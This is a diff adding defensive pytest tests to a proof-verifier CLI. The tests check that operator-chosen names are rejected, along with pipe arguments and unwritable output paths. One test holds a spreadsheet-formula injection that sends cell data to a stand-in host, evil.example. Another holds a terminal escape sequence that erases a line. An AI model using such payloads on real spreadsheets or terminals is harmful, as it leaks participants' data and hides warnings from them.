@@ -514,3 +514,88 @@ def test_an_account_key_other_than_the_participant_files_is_refused(proven, caps
                   "--participant", deployment.participant_path(account.account_id), "--account-key", "ab" * 32,
                   expect=1, capsys=capsys)
     assert "--account-key" in out and out.strip().count("\n") == 0
+
+
+# -- names the operator chooses, printed to the participant ------------------------------------------------
+
+
+def _verify_epoch_3(deployment, tmp_path, *extra, expect):
+    account = _trader(deployment)
+    return zkclear("verify", deployment.epoch_dir(3), "--receipt", deployment.receipt_path(3, account.account_id),
+                   "--account", account.account_id, *extra, expect=expect)
+
+
+def test_an_instrument_named_as_a_spreadsheet_formula_never_reaches_the_history_csv(proven, tmp_path):
+    """The operator proves epoch 3 with its first instrument renamed to a formula in the risk data: the participant's
+    history CSV, opened in a spreadsheet, would run it. The risk data's names must be the configuration's ids."""
+    deployment = _copy(proven, tmp_path)
+    inputs = deployment.public_inputs(3)
+    honest = deployment.public_data(3, inputs)
+    formula = '=HYPERLINK("https://evil.example/?"&D2,"BTC-PERP")'
+    forged = replace(honest, instruments=(replace(honest.instruments[0], instrument_id=formula),
+                                          *honest.instruments[1:]))
+    _prove_with(deployment, proven, 3, forged, inputs)
+    csv_path = tmp_path / "history.csv"
+    out = _verify_epoch_3(deployment, tmp_path, "--history-csv", csv_path, expect=1)
+    assert "epoch-3.public.json" in out and "instrument id" in out and len(out.strip().splitlines()) == 1
+    assert not csv_path.exists()
+
+
+def test_a_mark_named_with_a_terminal_escape_is_refused_not_printed(proven, tmp_path):
+    """The operator names a mark in the public inputs with an escape sequence that erases the line above on the
+    participant's terminal (where a FAILED line could be): identifiers are printable ASCII."""
+    deployment = _copy(proven, tmp_path)
+    inputs = deployment.public_inputs(3)
+    document = json.loads(inputs.to_bytes())
+    document["derived"]["marks"][0][0] = "BTC-PERP\x1b[1A\x1b[2K"
+
+    class Unchecked(PublicInputs):  # the operator writes the file's bytes itself
+        def to_bytes(self) -> bytes:
+            return json.dumps(self.document, sort_keys=True, separators=(",", ":")).encode("ascii")
+
+    _prove_with(deployment, proven, 3, deployment.public_data(3, inputs), Unchecked(document))
+    out = _verify_epoch_3(deployment, tmp_path, expect=1)
+    assert "\x1b" not in out and "derived.marks[0][0]" in out and "printable ASCII identifier" in out
+
+
+def test_a_named_pipe_given_as_a_receipt_or_participant_file_is_refused_not_waited_on(proven, tmp_path):
+    """A pipe blocked verify forever (and a device such as /dev/zero was read until memory ran out): a file
+    argument must be a regular file."""
+    import os
+
+    deployment = proven["deployment"]
+    account = _trader(deployment)
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe)
+    for args in (["--receipt", pipe, "--account", account.account_id],
+                 ["--receipt", deployment.receipt_path(3, account.account_id), "--participant", pipe]):
+        result = subprocess.run([sys.executable, "-m", "zkclear.cli", "verify", deployment.epoch_dir(3), *args],
+                                capture_output=True, text=True, timeout=120, check=False)
+        assert result.returncode == 1 and result.stderr == f"error: {pipe}: not a regular file\n", result.stderr
+
+
+def test_a_history_csv_that_cannot_be_written_names_the_file_and_option(proven, tmp_path):
+    """A write error's message does not name the file ('error: Input/output error' was all a participant saw)."""
+    deployment = proven["deployment"]
+    account = _trader(deployment)
+    args = ["verify", deployment.epoch_dir(2), deployment.epoch_dir(3),
+            "--receipt", deployment.receipt_path(2, account.account_id),
+            "--receipt", deployment.receipt_path(3, account.account_id), "--account", account.account_id]
+    for target in (Path("/proc/version"), tmp_path / "missing" / "history.csv"):
+        out = zkclear(*args, "--history-csv", target, expect=1)
+        assert out.strip().splitlines() == [out.strip()] and f"{target}: field '--history-csv': cannot write" in out
+
+
+def test_receipts_of_epochs_with_a_gap_are_not_said_to_chain_in_json_either(proven):
+    """--json said nothing of the unchecked link: a program reading it could take epochs 1 and 3 for a chain."""
+    deployment = proven["deployment"]
+    account = next(a for a in deployment.accounts(1) if a.account_id.startswith("trader-"))
+    args = ["verify", *(deployment.epoch_dir(n) for n in (1, 2, 3)), "--account", account.account_id, "--json"]
+    for epoch in (1, 2, 3):
+        args += ["--receipt", deployment.receipt_path(epoch, account.account_id)]
+    document = json.loads(zkclear(*args))
+    assert document["links"] == [{"from": 1, "to": 2, "chained": True}, {"from": 2, "to": 3, "chained": True}]
+    gap = ["verify", deployment.epoch_dir(1), deployment.epoch_dir(3), "--account", account.account_id, "--json",
+           "--receipt", deployment.receipt_path(1, account.account_id),
+           "--receipt", deployment.receipt_path(3, account.account_id)]
+    assert json.loads(zkclear(*gap))["links"] == [{"from": 1, "to": 3, "chained": False}]
